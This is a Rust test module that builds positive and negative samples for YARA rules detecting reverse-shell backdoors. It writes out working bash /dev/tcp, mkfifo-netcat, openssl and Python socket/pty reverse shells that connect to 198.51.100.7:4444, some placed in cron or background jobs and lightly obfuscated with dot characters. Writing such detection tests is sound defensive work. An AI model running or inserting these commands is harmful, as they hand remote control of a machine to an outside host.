//! `shells.yar`: scripts that connect a command interpreter to a remote host.

use super::{Sample, hit, miss, plain};

const DEV_TCP: &str = "Backdoor.Shell.DevTcp";
const FIFO: &str = "Backdoor.Shell.FifoNetcat";
const PYTHON: &str = "Backdoor.Python.ReverseShell";

pub(super) fn samples() -> Vec<Sample> {
    [dev_tcp(), fifo(), python()].into_iter().flatten().collect()
}

fn dev_tcp() -> Vec<Sample> {
    let line = plain("bash -·i >& /dev/t·cp/198.51.100.7/4444 0>&1");
    vec![
        hit(DEV_TCP, "script", format!("#!/bin/bash\n{line}\n")),
        hit(DEV_TCP, "in the background", format!("#!/bin/sh\nnohup bash -c '{line}' &\n")),
        hit(DEV_TCP, "crontab", format!("SHELL=/bin/bash\n*/5 * * * * root {line}\n")),
        hit(
            DEV_TCP,
            "descriptor",
            plain(
                "#!/bin/bash\nexec 5<>/dev/t·cp/198.51.100.7/4444\nwhile read l; do $l 2>&5 >&5; done <&5\n",
            ),
        ),
        miss(DEV_TCP, "cheat sheet", format!("Reverse shells\n--------------\n{line}\n")),
        miss(
            DEV_TCP,
            "comment",
            format!("#!/bin/bash\n# look for {line} in histories\ngrep -r dev/tcp /home\n"),
        ),
        miss(
            DEV_TCP,
            "port check",
            "#!/bin/bash\nexec 3<>/dev/tcp/192.0.2.1/80\necho -e 'HEAD / HTTP/1.0\\n' >&3\ncat <&3\n",
        ),
        miss(
            DEV_TCP,
            "placeholders",
            plain("#!/bin/bash\nbash -·i >& /dev/t·cp/$HOST/$PORT 0>&1\n"),
        ),
    ]
}

fn fifo() -> Vec<Sample> {
    let line =
        plain("rm /tmp/f;mkfi·fo /tmp/f;cat /tmp/f|/bin/sh -·i 2>&1|n·c 198.51.100.7 4444 >/tmp/f");
    let openssl = plain(
        "mkfi·fo /tmp/s; /bin/sh -·i < /tmp/s 2>&1 | open·ssl s_client -quiet -connect 198.51.100.7:443 > /tmp/s; rm /tmp/s",
    );
    vec![
        hit(FIFO, "netcat", format!("#!/bin/sh\n{line}\n")),
        hit(FIFO, "openssl", format!("#!/bin/bash\n{openssl}\n")),
        miss(FIFO, "cheat sheet", format!("Without -e:\n\n    {line}\n")),
        miss(
            FIFO,
            "backup through a pipe",
            "#!/bin/sh\nmkfifo /tmp/p; tar c /home | gzip > /tmp/p & nc backup 9000 < /tmp/p\n",
        ),
        miss(FIFO, "proxy", "#!/bin/sh\nmkfifo /tmp/p\nnc -l 8080 < /tmp/p | nc web 80 > /tmp/p\n"),
    ]
}

fn python() -> Vec<Sample> {
    let connect = plain("s = socket.socket()\ns.conn·ect((\"198.51.100.7\", 4444))\n");
    let copies =
        plain("os.du·p2(s.fileno(), 0)\nos.du·p2(s.fileno(), 1)\nos.du·p2(s.fileno(), 2)\n");
    let spawn = plain("pty.spa·wn(\"/bin/sh\")\n");
    let line = format!(
        "python3 -c 'import socket,pty,os;{}'\n",
        format!("{connect}{copies}{spawn}").trim_end().replace('\n', ";")
    );
    vec![
        hit(
            PYTHON,
            "program",
            format!("#!/usr/bin/env python3\nimport socket, os, pty\n{connect}{copies}{spawn}"),
        ),
        hit(
            PYTHON,
            "module",
            format!(
                "import os, socket, subprocess\n{connect}{copies}{}",
                plain("subprocess.ca·ll([\"/bin/bash\", \"-i\"])\n")
            ),
        ),
        hit(
            PYTHON,
            "loop",
            format!(
                "import os, socket, pty\n{connect}{}{spawn}",
                plain("[os.du·p2(s.fileno(), fd) for fd in (0, 1, 2)]\n")
            ),
        ),
        hit(PYTHON, "one line in a shell script", format!("#!/bin/sh\n{line}")),
        miss(PYTHON, "cheat sheet", format!("Python\n\n    {line}")),
        miss(
            PYTHON,
            "daemon",
            format!("import os, sys\nlog = open('/var/log/d')\n{}", copies.replace("s.f", "log.f")),
        ),
        miss(PYTHON, "terminal recorder", format!("import pty, socket\n{connect}{spawn}")),
        miss(
            PYTHON,
            "server of files",
            format!("#!/usr/bin/python3\nimport socket\n{connect}s.sendall(b'GET / HTTP/1.0')\n"),
        ),
    ]
}
